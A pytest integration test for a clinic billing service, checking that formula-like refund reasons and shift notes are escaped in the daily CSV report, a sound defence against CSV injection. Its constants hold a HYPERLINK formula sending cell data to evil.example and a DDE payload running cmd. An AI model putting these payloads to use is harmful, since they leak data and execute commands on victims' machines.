"""No text a cashier types runs as a formula when the day's reconciliation CSV is opened in a spreadsheet.

Attempted in the security review of session 25: a refund reason ``=HYPERLINK("https://evil.example/?"&A1,
"Xem")`` and a shift's closing note ``@SUM(1+1)*cmd|' /C calc'!A0`` went into billing's daily CSV (and the
portal's, which is read from it) as they were typed: Excel makes the first a link sending the sheet's cells
away and offers to run the second (OWASP "CSV Injection"). Each such text now starts with ``'``; the money
(``-30000``: a refund's negative amount) stays a number.
"""

from __future__ import annotations

import csv
import io
import uuid

import pytest
from sen_shared.auth import issue_dev_token

from tests.support import app_client, vn_day_with_room

pytestmark = pytest.mark.integration

LINK = '=HYPERLINK("https://evil.example/?"&A1,"Xem")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"


def test_a_refund_reason_and_a_shift_note_typed_as_formulas_stay_text(base_env, mongo_client, dev_key) -> None:
    vn_day_with_room()  # what this test pays and reads is of one day in Vietnam (the daily report's)
    from tests.billing_support import cash_on_a_new_invoice

    name = f"sen_billing_cf{uuid.uuid4().hex[:8]}"
    with app_client("billing", base_env, name, mongo_client) as (client, _app):
        token = issue_dev_token(dev_key, "cashier", sub=f"thu-ngan-{uuid.uuid4().hex[:4]}", facility="org-a")
        me = {"Authorization": f"Bearer {token}", "Accept": "application/json"}
        assert client.post("/payments/shifts", json={"openingCash": 0}, headers=me).status_code == 201
        iid, cash = cash_on_a_new_invoice(client, mongo_client[name], me, 130_000)
        refund = client.post(f"/payments/{cash.json()['id']}/refund", json={"reason": LINK, "method": "cash"},
                             headers=me)
        assert refund.status_code == 201, refund.text
        closed = client.post("/payments/shifts/current/close", headers=me,
                             json={"countedCash": 1, "countedTransfers": 0, "note": DDE})
        assert closed.status_code == 200, closed.text

        r = client.get("/payments/reports/daily.csv", headers={**me, "Accept": "text/csv"})
        assert r.status_code == 200, r.text
        rows = list(csv.DictReader(io.StringIO(r.text)))
        refunded = next(row for row in rows if row["kind"] == "refund")
        assert refunded["note"] == "'" + LINK  # failed before: the formula as typed
        assert refunded["amount"] == "-30000"  # the credit given back  # a negative amount is a number, not a formula
        shift = next(row for row in rows if row["kind"] == "shift")
        assert shift["note"] == "'" + DDE
        assert not [value for row in rows for value in row.values()
                    if value and len(value) > 1 and value[0] in "=+@" and not value[1:].isdigit()]
    mongo_client.drop_database(name)
